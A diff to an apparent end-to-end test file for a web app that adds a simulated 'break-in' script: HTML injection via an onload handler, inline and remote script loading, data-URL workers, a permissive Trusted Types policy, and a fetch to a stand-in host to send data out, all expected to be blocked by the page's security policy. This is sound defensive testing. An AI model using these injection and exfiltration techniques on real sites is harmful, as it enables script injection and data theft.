@@ -1,5 +1,6 @@
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { screens } from '../../src/ports/screens.ts';
 import type { FieldPhone } from '../harness/field-phone.ts';
 import { Hand } from '../harness/hand.ts';
 import { type Deployment, startDeployment } from './deployment.ts';
@@ -29,6 +30,47 @@ const lookForUpdate = (page: Page): Promise<string> =>
       tell();
     });
   });
+
+/** What a script that got into the page would try. Tells what of it was done, and what the browser reported. */
+async function breakIn() {
+  const reported = new Set<string>();
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+    reported.add(effectiveDirective);
+  });
+  const marker = 'document.documentElement.dataset.broken = "in"';
+  const element = <Name extends keyof HTMLElementTagNameMap>(name: Name) =>
+    document.body.appendChild(document.createElement(name));
+  const tries: Record<string, () => unknown> = {
+    html: () => {
+      element('div').innerHTML = `<img src="/mark.svg" onload='${marker}'>`;
+    },
+    inline: () => {
+      element('script').textContent = marker;
+    },
+    elsewhere: () => {
+      element('script').src = 'https://elsewhere.example/a.js';
+    },
+    worker: () => new Worker(`data:text/javascript,${marker}`),
+    'service worker': () => navigator.serviceWorker.register('/api/worker.js'),
+    document: () => document.write(`<script>${marker}</script>`),
+    'a gate of its own': () =>
+      (
+        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+      ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
+    'telling somebody': () => fetch('https://elsewhere.example/', { mode: 'no-cors' }),
+  };
+  const done: string[] = [];
+  for (const [name, attempt] of Object.entries(tries)) {
+    try {
+      await attempt();
+      done.push(name);
+    } catch {
+      // Refused, as it should be.
+    }
+  }
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  return { done, ran: 'broken' in document.documentElement.dataset, reported: [...reported].sort() };
+}
 
 /** One phone through good and bad versions of the app: real service workers, a real server. In this order. */
 describe('another version of the app', () => {
@@ -91,6 +133,24 @@ describe('another version of the app', () => {
     await recordCountWithNote(phone.hand(), 'con la versione di prima');
     expect(await onlyHere(page())).toBe(1);
     await phone.net.restore();
+  });
+
+  it('a script that got into the page starts nowhere, and what it takes reaches nobody, also without network', async () => {
+    await phone.net.cut();
+    await page().reload();
+    await unlock(phone.hand());
+    // The map asks the browser what it can draw, and names are looked up in a worker: both pass the gate.
+    await page().evaluate((address) => history.pushState(null, '', address), screens.map);
+    await page().locator('.lamp-map path').first().waitFor();
+    expect(phone.browser.refused).toEqual([]);
+    expect(await page().evaluate(breakIn)).toEqual({
+      done: [],
+      ran: false,
+      reported: ['connect-src', 'require-trusted-types-for', 'trusted-types'],
+    });
+    await phone.net.restore();
+    await page().goto('/');
+    await unlock(phone.hand());
   });
 
   it('fault 35: the tab of an older version is fenced off, its draft goes on in the newer one, and it says so', async () => {
